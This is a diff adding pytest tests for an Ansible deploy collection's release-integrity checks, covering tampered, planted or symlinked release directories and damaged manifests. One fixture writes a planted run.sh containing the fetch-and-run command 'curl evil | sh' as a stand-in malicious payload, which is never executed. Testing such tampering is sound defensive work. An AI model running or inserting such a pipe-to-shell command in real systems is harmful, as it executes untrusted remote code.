@@ -2,12 +2,15 @@ from __future__ import annotations
 
 import hashlib
 import io
+import json
 import os
 import tarfile
 
 import pytest
 
 from ansible_collections.zerodown.deploy.plugins.module_utils._release import (
+    MARKER,
+    STATE,
     ReleaseError,
     ReleaseTree,
     apply_release,
@@ -277,3 +280,153 @@ def test_bad_service_and_unit_values_change_nothing(tree, tmp_path, sysd):
     with pytest.raises(ValueError, match="needs service"):
         apply_release(tree, "present", "v1", unit=UNIT)
     assert sysd.calls == [] and not tree.is_complete("v1")
+
+
+# -- an existing release directory is reused only when it matches its manifest ---------------------------
+
+
+def _artifact(tmp_path, release):
+    art = str(tmp_path / ("%s.tar.gz" % release))
+    if not os.path.exists(art):
+        make_tar(art, {"run.sh": "echo %s" % release, "VERSION": release})
+    return art, parse_checksum("sha256:" + hashlib.sha256(open(art, "rb").read()).hexdigest())
+
+
+def _planted(tree, release, files):
+    """A release directory put there by hand (or another tool): no marker."""
+    path = tree.release_dir(release)
+    os.makedirs(path)
+    for name, body in files.items():
+        with open(os.path.join(path, name), "w") as handle:
+            handle.write(body)
+    return path
+
+
+def _version(tree, release):
+    return open(os.path.join(tree.release_dir(release), "VERSION")).read()
+
+
+def test_a_planted_release_directory_is_unpacked_again_from_the_verified_artifact(tree, tmp_path, sysd):
+    deploy(tree, tmp_path, "v1")
+    _planted(tree, "v2", {"VERSION": "evil", "run.sh": "curl evil | sh"})
+    art, checksum = _artifact(tmp_path, "v2")
+    check = apply_release(tree, "current", "v2", artifact=art, checksum=checksum, strip=1, check=True)
+    assert check["actions"] == ["restage", "switch"] and "no zerodown manifest" in check["restage_reason"]
+    assert _version(tree, "v2") == "evil" and tree.live() == "v1"
+    out = apply_release(tree, "current", "v2", artifact=art, checksum=checksum, strip=1, service="shop.service")
+    assert out["actions"] == ["restage", "switch", "restart"] and out["sha256"] == checksum
+    assert _version(tree, "v2") == "v2" and tree.live() == "v2" and tree.verify("v2", checksum)["state"] == "verified"
+    assert tree.partials() == [] and sorted(os.listdir(tree.releases_dir)) == ["v1", "v2"]
+
+
+def test_a_planted_release_without_its_artifact_is_asked_for_or_refused(tree, tmp_path, sysd):
+    path = _planted(tree, "v2", {"VERSION": "evil"})
+    _art, checksum = _artifact(tmp_path, "v2")
+    asked = apply_release(
+        tree, "present", "v2", artifact=str(tmp_path / "absent"), checksum=checksum, artifact_missing="skip"
+    )
+    assert asked["artifact_needed"] and not asked["changed"] and "no zerodown manifest" in asked["restage_reason"]
+    with pytest.raises(ReleaseError) as err:
+        apply_release(tree, "current", "v2", checksum=checksum, service="shop.service")
+    message = str(err.value)
+    assert "release 'v2' on this host cannot be trusted: %s has no zerodown manifest" % path in message
+    assert "nothing was changed" in message and "Give its artifact" in message
+    assert _version(tree, "v2") == "evil" and tree.live() is None and sysd.calls == []
+
+
+@pytest.mark.parametrize(
+    "damage, reason",
+    [
+        (lambda rel: open(os.path.join(rel, "VERSION"), "w").write("patched"), "changed VERSION"),
+        (lambda rel: os.chmod(os.path.join(rel, "run.sh"), 0o700), "changed run.sh"),
+        (lambda rel: open(os.path.join(rel, "extra.py"), "w").write("x"), "added extra.py"),
+        (lambda rel: os.unlink(os.path.join(rel, "VERSION")), "removed VERSION"),
+        (lambda rel: open(os.path.join(rel, MARKER), "w").write("{oops"), "manifest .zerodown-release.json is not"),
+        (lambda rel: open(os.path.join(rel, MARKER), "w").write("[]"), "holds a list, expected a JSON object"),
+        (
+            lambda rel: open(os.path.join(rel, MARKER), "w").write('{"release": "v9", "sha256": null}'),
+            "its manifest is the one of release 'v9'",
+        ),
+    ],
+)
+def test_a_release_changed_since_it_was_unpacked_is_unpacked_again_unless_live(tree, tmp_path, sysd, damage, reason):
+    deploy(tree, tmp_path, "v1")
+    deploy(tree, tmp_path, "v2", state="present")
+    damage(tree.release_dir("v2"))
+    verdict = tree.verify("v2")
+    assert verdict["state"] == "unverified" and reason in verdict["reason"], verdict
+    # not live: unpacked again from the artifact
+    out = deploy(tree, tmp_path, "v2", state="present")
+    assert out["actions"] == ["restage"] and reason in out["restage_reason"]
+    assert tree.verify("v2")["state"] == "verified" and _version(tree, "v2") == "v2"
+    # live: refused, nothing changed, the service untouched
+    deploy(tree, tmp_path, "v2")
+    damage(tree.release_dir("v2"))
+    sysd.calls.clear()
+    with pytest.raises(ReleaseError) as err:
+        deploy(tree, tmp_path, "v2")
+    message = str(err.value)
+    assert "release 'v2' is live on this host but cannot be trusted" in message and reason in message
+    assert "nothing was changed" in message and "new release id" in message
+    assert sysd.calls == [] and tree.live() == "v2"
+    # and no rollback goes to it either
+    apply_release(tree, "rollback", "v1")
+    damage_again = tree.verify("v2")
+    assert damage_again["state"] == "unverified"
+    with pytest.raises(ReleaseError, match="cannot roll back to 'v2': .*nothing was changed"):
+        apply_release(tree, "rollback", "v2")
+    assert tree.live() == "v1"
+
+
+def test_a_release_listed_in_its_manifest_is_reused_without_the_artifact(tree, tmp_path):
+    deploy(tree, tmp_path, "v1", shared_dirs=["log"])
+    marker = tree.read_marker("v1")
+    assert marker["manifest"]["VERSION"].startswith("f:644:") and marker["manifest"]["log"].startswith("l:")
+    os.unlink(tmp_path / "v1.tar.gz")
+    with open(os.path.join(tree.shared_dir, "log", "app.log"), "w") as handle:
+        handle.write("shared files may change")  # behind the link: not part of the release
+    again = apply_release(tree, "current", "v1", checksum=marker["sha256"])
+    assert again["changed"] is False and again["sha256"] == marker["sha256"] and "verified" not in again
+
+
+def test_a_marker_from_an_older_version_without_a_manifest_is_still_trusted(tree, tmp_path):
+    deploy(tree, tmp_path, "v1")
+    path = os.path.join(tree.release_dir("v1"), MARKER)
+    data = json.load(open(path))
+    del data["manifest"]
+    json.dump(data, open(path, "w"))
+    assert tree.verify("v1", data["sha256"])["state"] == "verified"
+    data["sha256"] = None
+    json.dump(data, open(path, "w"))
+    assert "records no artifact sha256" in tree.verify("v1", "0" * 64)["reason"]
+
+
+def test_a_link_in_place_of_a_release_is_replaced_and_its_target_left_alone(tree, tmp_path):
+    deploy(tree, tmp_path, "v1")
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    (elsewhere / "VERSION").write_text("evil")
+    os.symlink(str(elsewhere), tree.release_dir("v2"))
+    assert "is not a directory" in tree.verify("v2")["reason"]
+    out = deploy(tree, tmp_path, "v2", state="present")
+    assert out["actions"] == ["restage"] and not os.path.islink(tree.release_dir("v2"))
+    assert _version(tree, "v2") == "v2" and (elsewhere / "VERSION").read_text() == "evil"
+
+
+def test_a_live_release_another_tool_installed_is_adopted_as_it_is(tree, tmp_path):
+    _planted(tree, "v0", {"VERSION": "v0"})
+    os.symlink("releases/v0", tree.current_link)
+    out = apply_release(tree, "current", "v0")
+    assert out["changed"] is False and out["verified"] is False
+
+
+@pytest.mark.parametrize("content", ["{", "[]", '{"live": 3}', '{"previous": ["v1"]}'])
+def test_a_damaged_release_state_file_is_named(tree, tmp_path, content):
+    deploy(tree, tmp_path, "v1")
+    path = os.path.join(tree.root, STATE)
+    with open(path, "w") as handle:
+        handle.write(content)
+    with pytest.raises(ReleaseError) as err:
+        apply_release(tree, "rollback", None)
+    assert str(err.value).startswith(path + " ") and "move it aside (mv %s %s.corrupt)" % (path, path) in str(err.value)
+    assert tree.live() == "v1"
